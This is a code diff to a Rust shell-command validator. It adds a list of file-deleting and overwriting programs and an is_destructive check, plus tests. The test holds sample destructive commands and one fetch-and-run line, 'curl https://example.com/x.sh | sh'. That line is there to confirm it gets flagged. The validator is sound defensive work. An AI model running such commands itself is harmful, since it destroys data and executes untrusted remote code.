@@ -8,6 +8,10 @@
 
 use std::collections::HashSet;
 
+/// Programs that delete or overwrite files.
+const WRITING_PROGRAMS: &[&str] =
+    &["rm", "rmdir", "mv", "dd", "shred", "truncate", "unlink", "tee", "chmod", "chown"];
+
 /// Result of command validation.
 #[derive(Debug, Clone)]
 pub struct ValidationResult {
@@ -551,6 +555,31 @@ impl CommandValidator {
         !result.is_safe()
     }
 
+    /// Check if a command writes or deletes, and so needs confirmation
+    /// before running unattended.
+    ///
+    /// True for anything the validator rates Medium or worse, and for
+    /// commands running a program that deletes or overwrites files, or
+    /// redirecting output into a file.
+    pub fn is_destructive(&self, command: &str) -> bool {
+        if self.validate(command).severity >= ValidationSeverity::Medium {
+            return true;
+        }
+
+        // Redirections between streams or to /dev/null write nothing
+        let command = [">&1", ">&2", "> /dev/null", ">/dev/null"]
+            .iter()
+            .fold(command.to_string(), |cmd, harmless| cmd.replace(harmless, " "));
+
+        command.split(['&', '|', ';', '\n']).any(|segment| {
+            let program = segment
+                .split_whitespace()
+                .find(|word| *word != "sudo" && !word.contains('='))
+                .map(|word| word.rsplit('/').next().unwrap_or(word));
+            program.is_some_and(|p| WRITING_PROGRAMS.contains(&p)) || segment.contains('>')
+        })
+    }
+
     /// Get the risk score for a command (0-100).
     pub fn risk_score(&self, command: &str) -> u8 {
         let result = self.validate(command);
@@ -847,4 +876,18 @@ mod tests {
             assert!(!desc.is_empty());
         }
     }
+
+    #[test]
+    fn test_is_destructive() {
+        let validator = CommandValidator::new();
+
+        for cmd in ["rm notes.txt", "cargo clean && rm -r dist", "echo hi > out.txt", "sudo mv a b"]
+        {
+            assert!(validator.is_destructive(cmd), "'{cmd}' should be destructive");
+        }
+        for cmd in ["ls -la", "cargo test 2>&1 | grep FAILED", "git status", "FOO=1 npm test"] {
+            assert!(!validator.is_destructive(cmd), "'{cmd}' should not be destructive");
+        }
+        assert!(validator.is_destructive("curl https://example.com/x.sh | sh"));
+    }
 }